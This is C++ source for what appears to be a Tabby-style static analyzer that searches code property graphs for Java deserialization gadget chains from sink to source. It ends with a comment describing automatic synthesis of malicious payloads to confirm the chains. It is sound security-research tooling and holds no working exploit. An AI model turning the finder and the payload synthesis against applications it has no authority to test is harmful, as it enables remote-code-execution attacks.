#include "finder/finder.hpp"

#include <algorithm>
#include <cerrno>
#include <cstdlib>
#include <span>
#include <unordered_set>

#include "analysis/domain.hpp"
#include "cpg/schema.hpp"
#include "obs/obs.hpp"
#include "serve/json.hpp"
#include "util/thread_pool.hpp"
#include "util/timer.hpp"

namespace tabby::finder {

namespace {

using graph::Edge;
using graph::EdgeId;
using graph::GraphDb;
using graph::NodeId;
using graph::Path;

/// The per-branch traversal state: the current Trigger_Condition, i.e. the
/// set of positions (0 = receiver, i = param i) of the *frontier* method
/// that must be attacker-controllable.
struct TcState {
  std::vector<std::int64_t> positions;  // sorted, unique
};

/// Formula 4: TC_next = { PP[x] | x in TC }. Fails (nullopt) when any
/// required position is uncontrollable. Takes a span so the frozen path can
/// feed int-list pool slices without materializing a vector.
std::optional<TcState> traverse_tc(const TcState& tc, std::span<const std::int64_t> pp) {
  TcState next;
  for (std::int64_t x : tc.positions) {
    if (x < 0 || x >= static_cast<std::int64_t>(pp.size())) return std::nullopt;
    std::int64_t w = pp[static_cast<std::size_t>(x)];
    if (!analysis::is_controllable(w)) return std::nullopt;
    next.positions.push_back(w);
  }
  std::sort(next.positions.begin(), next.positions.end());
  next.positions.erase(std::unique(next.positions.begin(), next.positions.end()),
                       next.positions.end());
  return next;
}

const std::vector<std::int64_t>* edge_pp(const Edge& e) {
  const graph::Value* v = e.prop(std::string(cpg::kPropPollutedPosition));
  return v != nullptr ? std::get_if<std::vector<std::int64_t>>(v) : nullptr;
}

/// Strict decimal u64 parse for the dist wire codec (ids/counters travel as
/// strings — the wire format's numbers are doubles).
bool parse_u64(const std::string& text, std::uint64_t& out) {
  if (text.empty()) return false;
  errno = 0;
  char* end = nullptr;
  out = std::strtoull(text.c_str(), &end, 10);
  return errno == 0 && end != nullptr && *end == '\0';
}

}  // namespace

const char* to_string(PartialReason reason) {
  switch (reason) {
    case PartialReason::Deadline: return "Deadline";
    case PartialReason::MemoryPressure: return "MemoryPressure";
    case PartialReason::WorkerFailure: return "WorkerFailure";
  }
  return "Unknown";
}

std::string degraded_line(const PartialSink& sink) {
  std::string line;
  switch (sink.reason) {
    case PartialReason::MemoryPressure:
      line = "degraded: [finder-memory] ";
      line += sink.signature;
      line += ": frontier pruned under memory pressure after ";
      line += std::to_string(sink.expansions);
      line += " expansion(s); chains found so far are kept";
      break;
    case PartialReason::WorkerFailure:
      line = "degraded: [finder-worker] ";
      line += sink.signature;
      line += ": ";
      line += sink.detail.empty() ? "worker failed" : sink.detail;
      break;
    case PartialReason::Deadline:
      line = "degraded: [finder-deadline] ";
      line += sink.signature;
      line += ": search cut short after ";
      line += std::to_string(sink.expansions);
      line += " expansion(s)";
      break;
  }
  return line;
}

std::string GadgetChain::to_string() const {
  std::string out;
  for (std::size_t i = 0; i < signatures.size(); ++i) {
    if (i == 0) {
      out += "(source)";
    } else if (i + 1 == signatures.size()) {
      out += "(sink)  ";
    } else {
      out += "        ";
    }
    out += signatures[i] + "\n";
  }
  return out;
}

std::string GadgetChain::key() const {
  std::string out;
  for (const std::string& s : signatures) {
    out += s;
    out += '\n';
  }
  return out;
}

GadgetChainFinder::GadgetChainFinder(const graph::GraphDb& cpg, FinderOptions options)
    : db_(&cpg), options_(options) {}

GadgetChainFinder::GadgetChainFinder(const graph::FrozenGraph& cpg, FinderOptions options)
    : frozen_(&cpg), options_(options) {}

FinderReport GadgetChainFinder::find_all() {
  obs::Span span("finder.find_all");
  util::Stopwatch watch;
  FinderReport report;
  std::unordered_set<std::string> seen;

  // Both representations yield the sink set in ascending id order after the
  // sort (frozen ids are the dense renumbering of the same ascending scan),
  // so shard order — and the merge below — is representation-independent.
  std::vector<NodeId> sinks =
      db_ != nullptr
          ? db_->find_nodes(std::string(cpg::kMethodLabel), std::string(cpg::kPropIsSink),
                            graph::Value{true})
          : frozen_->find_nodes(cpg::kMethodLabel, cpg::kPropIsSink, graph::Value{true});
  std::sort(sinks.begin(), sinks.end());
  report.sinks_considered = sinks.size();

  // Sink-partitioned search: every sink's traversal is independent (const
  // reads of the CPG, per-sink expansion budget), so the per-sink payloads
  // fan out across the executor. The merge below walks sinks in ascending id
  // order with the same first-wins dedup the serial loop applied, making the
  // report identical at any worker count.
  auto is_source = [](const graph::Node& n) {
    return n.prop_bool(std::string(cpg::kPropIsSource));
  };
  // Each shard's byte slice is a pure function of the pool and the sink
  // count, so prune decisions are identical at any worker count.
  const std::size_t cap = shard_cap(sinks.size());
  std::vector<SinkSearch> searches(sinks.size());
  if (options_.dist.workers > 0 && !sinks.empty()) {
    // Crash-isolated mode: each shard runs inside a supervised forked
    // worker; a shard whose retries are exhausted comes back as
    // worker_failed and degrades in the merge below instead of killing the
    // run. Payloads decode into the same SinkSearch the in-process path
    // fills, so everything downstream is shared.
    run_sinks_dist(sinks, cap, searches, report.dist_stats);
  } else {
    util::run_indexed(options_.executor, sinks.size(), [&](std::size_t i) {
      obs::Span sink_span("finder.sink");
      sink_span.attr("sink", static_cast<std::uint64_t>(sinks[i]));
      searches[i] = db_ != nullptr ? search_sink(sinks[i], is_source, cap)
                                   : search_sink_frozen(sinks[i], cap);
      sink_span.attr("chains", static_cast<std::uint64_t>(searches[i].chains.size()));
      sink_span.attr("expansions", static_cast<std::uint64_t>(searches[i].expansions));
      obs::counter_add("finder.sinks_searched");
    });
  }

  for (std::size_t i = 0; i < searches.size(); ++i) {
    SinkSearch& search = searches[i];
    for (GadgetChain& chain : search.chains) {
      if (seen.insert(chain.key()).second) report.chains.push_back(std::move(chain));
    }
    report.expansions += search.expansions;
    report.budget_exhausted = report.budget_exhausted || search.exhausted;
    report.frontier_bytes_charged += search.bytes_charged;
    report.frontier_pruned += search.frontier_pruned;
    report.spilled_paths += search.spilled;
    report.peak_frontier_bytes = std::max(report.peak_frontier_bytes, search.peak_bytes);
    if (search.partial()) {
      std::string signature =
          db_ != nullptr
              ? db_->node(sinks[i]).prop_string(std::string(cpg::kPropSignature))
              : std::string(frozen_->node_prop_string(sinks[i], cpg::kPropSignature));
      report.partial_sinks.push_back(PartialSink{sinks[i], std::move(signature),
                                                 search.expansions, search.reason(),
                                                 std::move(search.worker_error)});
    }
    last_expansions_ = search.expansions;
    last_exhausted_ = search.exhausted;
    last_partial_ = search.partial();
  }
  report.search_seconds = watch.elapsed_seconds();
  obs::counter_add("finder.chains_found", report.chains.size());
  obs::counter_add("finder.expansions", report.expansions);
  if (!report.partial_sinks.empty()) {
    obs::counter_add("finder.sinks_partial", report.partial_sinks.size());
  }
  // Memory-governance counters only exist on governed runs, so an unset
  // --mem-budget leaves the counter dump byte-identical to older builds.
  if (options_.frontier_byte_pool != 0) {
    obs::counter_add("finder.bytes_charged", report.frontier_bytes_charged);
    if (report.frontier_pruned > 0) {
      obs::counter_add("finder.frontier_pruned", report.frontier_pruned);
    }
    if (report.spilled_paths > 0) {
      obs::counter_add("finder.spilled_paths", report.spilled_paths);
    }
  }
  return report;
}

std::vector<GadgetChain> GadgetChainFinder::find_from_sink(graph::NodeId sink) {
  if (db_ == nullptr) {
    SinkSearch search = search_sink_frozen(sink, shard_cap(1));
    last_expansions_ = search.expansions;
    last_exhausted_ = search.exhausted;
    last_partial_ = search.partial();
    return std::move(search.chains);
  }
  return find_from_sink(sink, [](const graph::Node& n) {
    return n.prop_bool(std::string(cpg::kPropIsSource));
  });
}

std::vector<GadgetChain> GadgetChainFinder::find_from_sink(
    graph::NodeId sink, const std::function<bool(const graph::Node&)>& is_source) {
  // A single-sink search owns the whole pool.
  SinkSearch search = search_sink(sink, is_source, shard_cap(1));
  last_expansions_ = search.expansions;
  last_exhausted_ = search.exhausted;
  last_partial_ = search.partial();
  return std::move(search.chains);
}

std::string GadgetChainFinder::encode_sink_search(const SinkSearch& search) {
  serve::Json doc = serve::Json::object();
  serve::Json chains = serve::Json::array();
  for (const GadgetChain& chain : search.chains) {
    serve::Json jc = serve::Json::object();
    serve::Json nodes = serve::Json::array();
    for (NodeId n : chain.nodes) nodes.push(serve::Json::string(std::to_string(n)));
    serve::Json sigs = serve::Json::array();
    for (const std::string& sig : chain.signatures) sigs.push(serve::Json::string(sig));
    jc.set("nodes", std::move(nodes));
    jc.set("sigs", std::move(sigs));
    jc.set("type", chain.sink_type);
    chains.push(std::move(jc));
  }
  doc.set("chains", std::move(chains));
  doc.set("expansions", std::to_string(search.expansions));
  doc.set("exhausted", search.exhausted);
  doc.set("deadline", search.deadline_expired);
  doc.set("pruned", std::to_string(search.frontier_pruned));
  doc.set("charged", std::to_string(search.bytes_charged));
  doc.set("peak", std::to_string(search.peak_bytes));
  doc.set("spilled", std::to_string(search.spilled));
  return doc.dump();
}

bool GadgetChainFinder::decode_sink_search(const std::string& payload, SinkSearch& out) {
  auto doc = serve::Json::parse(payload);
  if (!doc || !doc->is_object()) return false;
  SinkSearch search;
  const serve::Json* chains = doc->find("chains");
  if (chains == nullptr || !chains->is_array()) return false;
  for (const serve::Json& jc : chains->items()) {
    GadgetChain chain;
    chain.sink_type = jc.str("type");
    const serve::Json* nodes = jc.find("nodes");
    if (nodes == nullptr || !nodes->is_array()) return false;
    for (const serve::Json& n : nodes->items()) {
      std::uint64_t id = 0;
      if (!n.is_string() || !parse_u64(n.as_string(), id)) return false;
      chain.nodes.push_back(id);
    }
    chain.signatures = jc.strings("sigs");
    if (chain.signatures.size() != chain.nodes.size()) return false;
    search.chains.push_back(std::move(chain));
  }
  std::uint64_t v = 0;
  if (!parse_u64(doc->str("expansions"), v)) return false;
  search.expansions = v;
  if (!parse_u64(doc->str("pruned"), v)) return false;
  search.frontier_pruned = v;
  if (!parse_u64(doc->str("charged"), v)) return false;
  search.bytes_charged = v;
  if (!parse_u64(doc->str("peak"), v)) return false;
  search.peak_bytes = v;
  if (!parse_u64(doc->str("spilled"), v)) return false;
  search.spilled = v;
  search.exhausted = doc->flag("exhausted");
  search.deadline_expired = doc->flag("deadline");
  out = std::move(search);
  return true;
}

void GadgetChainFinder::run_sinks_dist(const std::vector<graph::NodeId>& sinks,
                                       std::size_t frontier_cap,
                                       std::vector<SinkSearch>& searches,
                                       dist::DistStats& stats) const {
  auto is_source = [](const graph::Node& n) {
    return n.prop_bool(std::string(cpg::kPropIsSource));
  };
  // Runs inside the forked worker: single-threaded const search over the
  // inherited (copy-on-write / shared-mmap) graph, result serialized onto
  // the worker's socket. No executor, no tracer — neither survives a fork.
  dist::ShardFn fn = [&](std::size_t i) {
    SinkSearch search = db_ != nullptr ? search_sink(sinks[i], is_source, frontier_cap)
                                       : search_sink_frozen(sinks[i], frontier_cap);
    return encode_sink_search(search);
  };
  dist::DistReport dist_report = dist::run_shards(sinks.size(), fn, options_.dist);
  stats = dist_report.stats;
  for (std::size_t i = 0; i < sinks.size(); ++i) {
    dist::ShardResult& shard = dist_report.shards[i];
    if (shard.ok && decode_sink_search(shard.payload, searches[i])) continue;
    searches[i] = SinkSearch{};
    searches[i].worker_failed = true;
    searches[i].worker_error = shard.ok ? "shard payload decode failed" : std::move(shard.error);
  }
}

std::size_t GadgetChainFinder::shard_cap(std::size_t sink_count) const {
  if (options_.frontier_byte_pool == 0) return SIZE_MAX;
  // Floor each slice at one page so a huge sink catalogue cannot round every
  // shard down to "prune everything"; the pool is a soft aggregate bound.
  constexpr std::size_t kMinShardBytes = 4096;
  std::size_t slice = options_.frontier_byte_pool / std::max<std::size_t>(sink_count, 1);
  return std::max(slice, kMinShardBytes);
}

GadgetChainFinder::SinkSearch GadgetChainFinder::search_sink(
    graph::NodeId sink, const std::function<bool(const graph::Node&)>& is_source,
    std::size_t frontier_cap) const {
  const graph::Node& sink_node = db_->node(sink);
  std::string sink_type = sink_node.prop_string(std::string(cpg::kPropSinkType));

  // Initial TC from the sink node annotation; default {0}.
  TcState initial;
  if (const graph::Value* tc = sink_node.prop(std::string(cpg::kPropTriggerCondition))) {
    if (const auto* xs = std::get_if<std::vector<std::int64_t>>(tc)) initial.positions = *xs;
  }
  if (initial.positions.empty()) initial.positions = {0};

  // Algorithm 2: expand backwards over incoming CALL edges (to callers) and
  // forwards over outgoing ALIAS edges (to the overridden declaration whose
  // call sites dispatch here).
  auto expand = [this](const GraphDb& db, const Path& path,
                       const TcState& tc) -> std::vector<graph::Step<TcState>> {
    std::vector<graph::Step<TcState>> steps;
    NodeId frontier = path.end();

    for (EdgeId eid : db.in_edges(frontier)) {
      const Edge& e = db.edge(eid);
      if (e.type != cpg::kCallEdge) continue;
      if (options_.check_trigger_conditions) {
        const std::vector<std::int64_t>* pp = edge_pp(e);
        if (pp == nullptr) continue;
        std::optional<TcState> next = traverse_tc(tc, *pp);
        if (!next) continue;  // uncontrollable along this call: reject edge
        steps.push_back(graph::Step<TcState>{eid, e.from, std::move(*next)});
      } else {
        steps.push_back(graph::Step<TcState>{eid, e.from, tc});
      }
    }
    if (options_.use_alias_edges) {
      // Forward only (override -> overridden declaration): callers invoke
      // the declared supertype method, so walking up the alias chain exposes
      // their CALL edges. Walking ALIAS edges in reverse would fabricate
      // dispatches between sibling overrides and is deliberately excluded.
      for (EdgeId eid : db.out_edges(frontier)) {
        const Edge& e = db.edge(eid);
        if (e.type != cpg::kAliasEdge) continue;
        steps.push_back(graph::Step<TcState>{eid, e.to, tc});  // TC passes unchanged
      }
      if (options_.alias_bidirectional) {
        for (EdgeId eid : db.in_edges(frontier)) {
          const Edge& e = db.edge(eid);
          if (e.type != cpg::kAliasEdge) continue;
          steps.push_back(graph::Step<TcState>{eid, e.from, tc});
        }
      }
    }
    return steps;
  };

  // Algorithm 3: include when the frontier is a source; prune at max depth.
  auto evaluate = [this, &is_source](const GraphDb& db, const Path& path,
                                     const TcState&) -> graph::Evaluation {
    if (path.length() > 0 && is_source(db.node(path.end()))) {
      return graph::Evaluation::IncludeAndPrune;
    }
    if (static_cast<int>(path.length()) >= options_.max_depth) {
      return graph::Evaluation::ExcludeAndPrune;
    }
    return graph::Evaluation::ExcludeAndContinue;
  };

  graph::TraversalLimits limits;
  limits.max_results = options_.max_results_per_sink;
  limits.max_expansions = options_.max_expansions;
  limits.deadline = options_.deadline;
  limits.max_frontier_bytes = frontier_cap;
  limits.memory = options_.memory;

  graph::Traverser<TcState> traverser(
      *db_, expand, evaluate, graph::Uniqueness::NodePath, limits,
      [](const TcState& tc) { return tc.positions.capacity() * sizeof(std::int64_t); });

  SinkSearch search;
  const bool governed = frontier_cap != SIZE_MAX;
  // Stream results out of the traversal: each accepted path is converted to
  // a compact GadgetChain on the spot ("spilled"), so completed paths never
  // count against the frontier byte cap.
  traverser.run(sink, std::move(initial),
                [&](graph::TraversalResult<TcState> result) {
                  GadgetChain chain;
                  chain.sink_type = sink_type;
                  // Paths run sink -> source; chains are reported source-first.
                  chain.nodes.assign(result.path.nodes.rbegin(), result.path.nodes.rend());
                  for (NodeId n : chain.nodes) {
                    chain.signatures.push_back(
                        db_->node(n).prop_string(std::string(cpg::kPropSignature)));
                  }
                  search.chains.push_back(std::move(chain));
                  if (governed) ++search.spilled;
                });
  search.expansions = traverser.expansions();
  search.exhausted = traverser.exhausted_budget();
  search.deadline_expired = traverser.deadline_expired();
  search.frontier_pruned = traverser.frontier_pruned();
  search.bytes_charged = traverser.frontier_bytes_charged();
  search.peak_bytes = traverser.peak_frontier_bytes();
  return search;
}

GadgetChainFinder::SinkSearch GadgetChainFinder::search_sink_frozen(
    graph::NodeId sink, std::size_t frontier_cap) const {
  const graph::FrozenGraph& g = *frozen_;
  // Resolve every column and type id once per shard; the hot loop then only
  // touches flat arrays.
  const graph::FrozenColumn* sig_col = g.node_column(cpg::kPropSignature);
  const graph::FrozenColumn* source_col = g.node_column(cpg::kPropIsSource);
  const graph::FrozenColumn* sink_type_col = g.node_column(cpg::kPropSinkType);
  const graph::FrozenColumn* tc_col = g.node_column(cpg::kPropTriggerCondition);
  const graph::FrozenColumn* pp_col = g.edge_column(cpg::kPropPollutedPosition);
  const std::optional<std::uint16_t> call_type = g.edge_type_id(cpg::kCallEdge);
  const std::optional<std::uint16_t> alias_type = g.edge_type_id(cpg::kAliasEdge);

  // Column reads that stay exact when a key's column degraded to Mixed
  // (heterogeneous fuzz graphs): same result as the GraphDb accessors.
  auto col_string = [](const graph::FrozenColumn* col, std::uint64_t i) -> std::string {
    if (col == nullptr) return {};
    if (col->kind() == graph::FrozenColumnKind::Str) return std::string(col->get_string(i));
    auto v = col->get_value(i);
    const std::string* s = v.has_value() ? std::get_if<std::string>(&v.value()) : nullptr;
    return s != nullptr ? *s : std::string{};
  };

  std::string sink_type = col_string(sink_type_col, sink);

  TcState initial;
  if (tc_col != nullptr) {
    if (tc_col->kind() == graph::FrozenColumnKind::IntList) {
      auto xs = tc_col->get_intlist(sink);
      initial.positions.assign(xs.begin(), xs.end());
    } else if (auto v = tc_col->get_value(sink); v.has_value()) {
      if (const auto* xs = std::get_if<std::vector<std::int64_t>>(&v.value())) {
        initial.positions = *xs;
      }
    }
  }
  if (initial.positions.empty()) initial.positions = {0};

  // Algorithm 2 over typed CSR slices. Step order matches search_sink's
  // filtered insertion-order scans exactly: a typed slice ascends by dense
  // edge index, which is the live-edge emission order GraphDb iterates.
  auto expand = [&, this](const graph::FrozenGraph& db, const Path& path,
                          const TcState& tc) -> std::vector<graph::Step<TcState>> {
    std::vector<graph::Step<TcState>> steps;
    NodeId frontier = path.end();

    if (call_type.has_value()) {
      graph::AdjacencyView calls = db.in_edges_typed_view(frontier, *call_type);
      for (std::size_t k = 0; k < calls.size(); ++k) {
        EdgeId eid = calls.edge[k];
        NodeId caller = calls.nbr[k];
        if (options_.check_trigger_conditions) {
          if (pp_col == nullptr || !pp_col->has(eid)) continue;
          std::optional<TcState> next;
          if (pp_col->kind() == graph::FrozenColumnKind::IntList) {
            next = traverse_tc(tc, pp_col->get_intlist(eid));
          } else {
            auto v = pp_col->get_value(eid);
            const auto* xs =
                v.has_value() ? std::get_if<std::vector<std::int64_t>>(&v.value()) : nullptr;
            if (xs == nullptr) continue;
            next = traverse_tc(tc, *xs);
          }
          if (!next) continue;  // uncontrollable along this call: reject edge
          steps.push_back(graph::Step<TcState>{eid, caller, std::move(*next)});
        } else {
          steps.push_back(graph::Step<TcState>{eid, caller, tc});
        }
      }
    }
    if (options_.use_alias_edges && alias_type.has_value()) {
      graph::AdjacencyView aliases = db.out_edges_typed_view(frontier, *alias_type);
      for (std::size_t k = 0; k < aliases.size(); ++k) {
        steps.push_back(graph::Step<TcState>{aliases.edge[k], aliases.nbr[k], tc});
      }
      if (options_.alias_bidirectional) {
        graph::AdjacencyView rev = db.in_edges_typed_view(frontier, *alias_type);
        for (std::size_t k = 0; k < rev.size(); ++k) {
          steps.push_back(graph::Step<TcState>{rev.edge[k], rev.nbr[k], tc});
        }
      }
    }
    return steps;
  };

  // Algorithm 3, with IS_SOURCE read straight off the column bitmap.
  auto evaluate = [&, this](const graph::FrozenGraph&, const Path& path,
                            const TcState&) -> graph::Evaluation {
    if (path.length() > 0 && source_col != nullptr && source_col->get_bool(path.end())) {
      return graph::Evaluation::IncludeAndPrune;
    }
    if (static_cast<int>(path.length()) >= options_.max_depth) {
      return graph::Evaluation::ExcludeAndPrune;
    }
    return graph::Evaluation::ExcludeAndContinue;
  };

  graph::TraversalLimits limits;
  limits.max_results = options_.max_results_per_sink;
  limits.max_expansions = options_.max_expansions;
  limits.deadline = options_.deadline;
  limits.max_frontier_bytes = frontier_cap;
  limits.memory = options_.memory;

  graph::Traverser<TcState, graph::FrozenGraph> traverser(
      g, expand, evaluate, graph::Uniqueness::NodePath, limits,
      [](const TcState& tc) { return tc.positions.capacity() * sizeof(std::int64_t); });

  SinkSearch search;
  const bool governed = frontier_cap != SIZE_MAX;
  traverser.run(sink, std::move(initial),
                [&](graph::TraversalResult<TcState> result) {
                  GadgetChain chain;
                  chain.sink_type = sink_type;
                  chain.nodes.assign(result.path.nodes.rbegin(), result.path.nodes.rend());
                  for (NodeId n : chain.nodes) {
                    chain.signatures.push_back(col_string(sig_col, n));
                  }
                  search.chains.push_back(std::move(chain));
                  if (governed) ++search.spilled;
                });
  search.expansions = traverser.expansions();
  search.exhausted = traverser.exhausted_budget();
  search.deadline_expired = traverser.deadline_expired();
  search.frontier_pruned = traverser.frontier_pruned();
  search.bytes_charged = traverser.frontier_bytes_charged();
  search.peak_bytes = traverser.peak_frontier_bytes();
  return search;
}

}  // namespace tabby::finder
