// Gadget-chain finding (§III-D): the tabby-path-finder equivalent. Starting
// from each sink method node, a reverse traversal propagates the
// Trigger_Condition through CALL edges via the Polluted_Position (Formula 4,
// Algorithm 2 "Expander") and through ALIAS edges unchanged, accepting a
// path when it reaches a deserialization source within the depth bound
// (Algorithm 3 "Evaluator").
#pragma once

#include <cstdint>
#include <functional>
#include <string>
#include <vector>

#include "dist/dist.hpp"
#include "graph/frozen.hpp"
#include "graph/graph.hpp"
#include "graph/traversal.hpp"
#include "util/deadline.hpp"
#include "util/memory_budget.hpp"

namespace tabby::util {
class Executor;
}

namespace tabby::finder {

/// One discovered gadget chain, source-first (the order the paper prints,
/// Table I / Table XI).
struct GadgetChain {
  std::vector<graph::NodeId> nodes;        // source ... sink
  std::vector<std::string> signatures;     // rendered "owner#name/n" per node
  std::string sink_type;                   // EXEC, JNDI, ...

  const std::string& source_signature() const { return signatures.front(); }
  const std::string& sink_signature() const { return signatures.back(); }
  std::size_t length() const { return signatures.size(); }

  std::string to_string() const;

  /// Stable identity for dedup: the joined signature sequence.
  std::string key() const;
};

struct FinderOptions {
  /// Maximum path length (edge count), the `depth` of Algorithm 3.
  int max_depth = 12;
  /// Per-sink cap on accepted chains.
  std::size_t max_results_per_sink = 128;
  /// Global expansion budget (guards path explosion).
  std::size_t max_expansions = 4'000'000;
  /// Follow ALIAS edges (ablation: off breaks polymorphic chains).
  bool use_alias_edges = true;
  /// Also traverse ALIAS edges in reverse (overridden -> override), the way
  /// the paper's Figure 6 example walks C -> C1. Sound dispatch only needs
  /// the forward direction because CALL edges already target the resolved
  /// declaration, so this is off by default; it reproduces the published
  /// plugin's more permissive behaviour.
  bool alias_bidirectional = false;
  /// Enforce Trigger_Condition/Polluted_Position compatibility (ablation:
  /// off degenerates into plain backward reachability — the Serianalyzer
  /// behaviour).
  bool check_trigger_conditions = true;
  /// When set (and offering >1 worker), find_all() partitions the search by
  /// sink and traverses sinks concurrently; per-sink results are merged
  /// serially in ascending sink-id order with the same dedup, so the report
  /// is bit-identical to the serial search. Each sink keeps its own
  /// max_expansions budget either way. Borrowed, not owned.
  util::Executor* executor = nullptr;
  /// Finder-phase wall-clock budget (--deadline / --phase-budget finder=).
  /// Cooperative: each sink shard polls it every few expansions and, once
  /// expired, stops with whatever chains it has and reports itself partial;
  /// sinks that finished before expiry stay complete. The default never
  /// expires, and a deadline that never fires leaves the report
  /// byte-identical to an unbounded run.
  util::Deadline deadline;
  /// Finder-phase byte pool for traversal frontiers (--mem-budget /
  /// --phase-budget finder-mem=). 0 = ungoverned. The pool is split
  /// *deterministically* across sink shards (pool / sinks, floored at a
  /// small minimum), and each shard polices only its own single-threaded
  /// slice — never a shared live counter — so the chain set is bit-identical
  /// at any --jobs count. A shard over its slice prunes shallowest frontier
  /// branches first and reports the sink partial with a MemoryPressure
  /// reason; chains already found are always kept.
  std::size_t frontier_byte_pool = 0;
  /// Optional process-wide ledger the per-shard charges mirror into
  /// (telemetry / stage checkpoints only). Borrowed, may be null.
  util::MemoryBudget* memory = nullptr;
  /// Crash-isolated execution (--workers N): with dist.workers > 0,
  /// find_all() dispatches each sink shard to a supervised pool of forked
  /// worker processes instead of the in-process executor. The frozen CSR
  /// mmap is shared read-only with every worker via fork inheritance; shard
  /// payloads come back over the dist wire protocol and feed the exact merge
  /// loop the in-process path uses, so the report is byte-identical at any
  /// worker count. A shard that exhausts its retry budget degrades to a
  /// PartialSink{WorkerFailure} — never a crashed run.
  dist::DistOptions dist;
};

/// Why a sink's search stopped before exhausting the graph.
enum class PartialReason : std::uint8_t {
  Deadline,        // wall-clock budget expired mid-search
  MemoryPressure,  // frontier byte cap forced branch pruning
  WorkerFailure,   // dist worker crashed/hung and retries were exhausted
};

const char* to_string(PartialReason reason);

/// A sink whose search was cut short (deadline, memory pressure, or — in
/// --workers mode — a worker failure that survived every retry): the chains
/// it did find are in the report, but more may exist. A WorkerFailure sink
/// contributes NO chains (the shard never completed).
struct PartialSink {
  graph::NodeId sink = graph::kNoNode;
  std::string signature;
  std::size_t expansions = 0;
  PartialReason reason = PartialReason::Deadline;
  /// Human-readable failure detail (WorkerFailure only: the coordinator's
  /// rendered error, e.g. "worker crashed (3 attempts)").
  std::string detail;
};

/// The canonical one-line degraded-mode rendering of a partial sink, shared
/// by the CLI and the serve daemon so clients see identical bytes:
///   "degraded: [finder-memory] <sig>: frontier pruned under memory pressure
///    after N expansion(s); chains found so far are kept"
///   "degraded: [finder-deadline] <sig>: search cut short after N expansion(s)"
///   "degraded: [finder-worker] <sig>: <detail>"
std::string degraded_line(const PartialSink& sink);

struct FinderReport {
  std::vector<GadgetChain> chains;
  std::size_t sinks_considered = 0;
  std::size_t expansions = 0;
  bool budget_exhausted = false;
  double search_seconds = 0.0;
  /// Truncated sinks, ascending sink id; empty on a full search.
  std::vector<PartialSink> partial_sinks;
  /// Cumulative frontier bytes charged across all sink shards (sum of
  /// per-shard monotone totals — deterministic at any --jobs count).
  std::size_t frontier_bytes_charged = 0;
  /// Frontier branches pruned to stay under the byte pool; > 0 implies at
  /// least one MemoryPressure partial sink.
  std::size_t frontier_pruned = 0;
  /// Chains streamed out of governed traversals instead of accumulating in
  /// the frontier store (0 when ungoverned).
  std::size_t spilled_paths = 0;
  /// Largest single-shard frontier high-water mark, in bytes.
  std::size_t peak_frontier_bytes = 0;
  /// Worker-pool supervision telemetry (all zero outside --workers mode).
  dist::DistStats dist_stats;

  bool partial() const { return !partial_sinks.empty(); }
};

class GadgetChainFinder {
 public:
  explicit GadgetChainFinder(const graph::GraphDb& cpg, FinderOptions options = {});

  /// Frozen-CSR variant: the identical search over graph::FrozenGraph.
  /// Expansion enumerates typed adjacency segments whose within-type order
  /// equals GraphDb's insertion-order iteration, so the report — chains,
  /// order, dedup — is byte-identical to the store-backed finder.
  explicit GadgetChainFinder(const graph::FrozenGraph& cpg, FinderOptions options = {});

  /// Search from every sink node in the CPG; chains are deduplicated by
  /// signature sequence.
  FinderReport find_all();

  /// Search backwards from one sink node.
  std::vector<GadgetChain> find_from_sink(graph::NodeId sink);

  /// Custom search: user-supplied source predicate (the RQ4 workflow —
  /// "check for the existence of a gadget chain between any source and sink
  /// according to their needs"). Store-backed finders only: the predicate
  /// sees graph::Node, which a frozen finder has no way to materialize.
  std::vector<GadgetChain> find_from_sink(graph::NodeId sink,
                                          const std::function<bool(const graph::Node&)>& is_source);

  const FinderOptions& options() const { return options_; }
  std::size_t last_expansions() const { return last_expansions_; }
  bool last_exhausted() const { return last_exhausted_; }
  /// True when the last find_from_sink() was cut short (deadline or memory).
  bool last_partial() const { return last_partial_; }

 private:
  /// Result of one sink's traversal, self-contained so sinks can be searched
  /// on any thread (the const search never touches finder state).
  struct SinkSearch {
    std::vector<GadgetChain> chains;
    std::size_t expansions = 0;
    bool exhausted = false;
    bool deadline_expired = false;   // deadline fired mid-search
    std::size_t frontier_pruned = 0; // branches dropped under the byte cap
    std::size_t bytes_charged = 0;   // cumulative frontier bytes (monotone)
    std::size_t peak_bytes = 0;      // frontier high-water mark
    std::size_t spilled = 0;         // chains streamed under a byte cap
    bool worker_failed = false;      // dist shard exhausted its retry budget
    std::string worker_error;        // coordinator-rendered failure (worker_failed)

    bool partial() const { return worker_failed || deadline_expired || frontier_pruned > 0; }
    PartialReason reason() const {
      if (worker_failed) return PartialReason::WorkerFailure;
      return deadline_expired ? PartialReason::Deadline : PartialReason::MemoryPressure;
    }
  };

  /// `frontier_cap` is this shard's deterministic byte slice (SIZE_MAX =
  /// ungoverned).
  SinkSearch search_sink(graph::NodeId sink,
                         const std::function<bool(const graph::Node&)>& is_source,
                         std::size_t frontier_cap) const;

  /// The same traversal over the frozen CSR: CALL/ALIAS expansion reads
  /// typed adjacency slices and columnar properties (IS_SOURCE bitmap,
  /// Polluted_Position int-list pool) resolved once per sink shard.
  SinkSearch search_sink_frozen(graph::NodeId sink, std::size_t frontier_cap) const;

  /// The deterministic pool split: pool / sinks, floored so a huge sink
  /// count cannot starve every shard to zero.
  std::size_t shard_cap(std::size_t sink_count) const;

  /// Dist wire codec for one shard's SinkSearch (chains + counters), a
  /// single JSON line built on serve::Json. Node ids and size_t counters
  /// travel as decimal strings — the wire format's numbers are doubles and
  /// cannot carry all 64 bits.
  static std::string encode_sink_search(const SinkSearch& search);
  static bool decode_sink_search(const std::string& payload, SinkSearch& out);

  /// --workers mode: runs the per-sink searches in the supervised worker
  /// pool, decoding payloads (or retry-exhausted failures) into `searches`.
  void run_sinks_dist(const std::vector<graph::NodeId>& sinks, std::size_t frontier_cap,
                      std::vector<SinkSearch>& searches, dist::DistStats& stats) const;

  // Exactly one representation is set; every query dispatches on db_.
  const graph::GraphDb* db_ = nullptr;
  const graph::FrozenGraph* frozen_ = nullptr;
  FinderOptions options_;
  std::size_t last_expansions_ = 0;
  bool last_exhausted_ = false;
  bool last_partial_ = false;
};

}  // namespace tabby::finder
