// Automatic payload generation and chain confirmation — the paper's §V-C
// future work ("Tabby cannot automatically generate malicious input payloads
// based on the identified gadget chains to confirm that the chains can
// definitely be triggered... we expect to leverage javassist ... to
// automatically check whether the gadget chain is correct").
//
// synthesize_payload() walks a reported chain through the CPG and the IR:
// at every CALL hop it locates the call site, traces the receiver back to a
// field of the current carrier object, and wires an instance of the next
// hop's dynamic class (looking through ALIAS dispatch hops) into that field.
// Sink arguments traced to fields are filled with tainted marker values.
